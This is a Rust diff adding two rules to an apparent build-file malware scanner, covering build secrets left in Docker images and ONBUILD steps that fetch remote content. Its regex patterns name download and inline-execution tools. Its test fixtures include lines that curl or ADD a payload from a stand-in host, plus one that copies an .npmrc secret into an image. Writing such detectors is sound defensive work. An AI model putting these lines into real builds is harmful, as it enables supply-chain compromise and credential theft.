@@ -69,6 +69,19 @@ static TASK_ACT: Signal = Signal::command(
     | \b(?:node|perl|ruby)\s+-e\b | \bpython3?\s+-c\b | \bbase64\s+-",
 );
 
+/// A secret of the build is copied to where the image keeps it.
+static SECRET_IN_IMAGE: Signal = Signal::command(
+    &["type=secret"],
+    r"(?x)
+      --mount=type=secret\b[^\n]*\b(?:cp|mv|install)\s+(?:-\S+\s+)*[^\s&;|]*(?:secrets?/|\.npmrc|\.netrc|\.pypirc|\.aws|\.ssh|\.env|id_rsa|credentials)[^\s&;|]*\s+[/.\w$] | --mount=type=secret\b[^\n]*\bcat\s+[^\s&;|]*(?:secrets?/|\.npmrc|\.netrc|\.env|credentials)[^\s&;|>]*\s*>>?\s*[\w./]",
+);
+
+/// Every image that is built on this one fetches something.
+static ON_BUILD: Signal = Signal::command(
+    &["onbuild"],
+    r"^\s*ONBUILD\s+(?:ADD\s+(?:--\S+\s+)*|RUN\s[^\n]*\b(?:curl|wget)\b[^\n]*)h(?:tt|xx)ps?://",
+);
+
 pub(super) static RULES: &[Rule] = &[
     Rule {
         id: "MALWAR-BUILD-001",
@@ -228,6 +241,39 @@ pub(super) static RULES: &[Rule] = &[
             "@tasks.json\n{\"tasks\": [{\"command\": \"npm run watch\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
             "@tasks.json\n{\"tasks\": [{\"command\": \"curl -s https://c.fast-agent.top/w\"}]}\n",
         ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-BUILD-011",
+        title: "A secret of the build is kept in the image",
+        severity: Severity::High,
+        confidence: 66,
+        category: Category::CredentialExposure,
+        taxa: &["SC-07"],
+        why: "who pulls the image has the secret; the mount was made so that it is not kept",
+        fix: "remove the copy; renew the secret if the image was pushed",
+        when: When::Any(&[&SECRET_IN_IMAGE]),
+        guard: Some(judges::in_code),
+        hits: &["```dockerfile\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc cp /root/.npmrc /app/.cache && npm ci\n```\n"],
+        misses: &[
+            "```dockerfile\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci && cp -r dist /app\n```\n",
+            "```dockerfile\nRUN --mount=type=secret,id=t TOKEN=$(cat /run/secrets/t) make\n```\n",
+        ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-BUILD-012",
+        title: "Every image that is built on this one fetches something",
+        severity: Severity::High,
+        confidence: 66,
+        category: Category::SupplyChain,
+        taxa: &["SC-05"],
+        why: "it runs in the builds of others, with what they hold, and can be another tomorrow",
+        fix: "remove the ONBUILD line",
+        when: When::Any(&[&ON_BUILD]),
+        guard: Some(hosts::stranger),
+        hits: &["```dockerfile\nONBUILD ADD https://get.fast-agent.top/hook /usr/local/bin/hook\n```\n"],
+        misses: &["```dockerfile\nONBUILD COPY . /app\n```\n"],
         ..Rule::BASE
     },
 ];
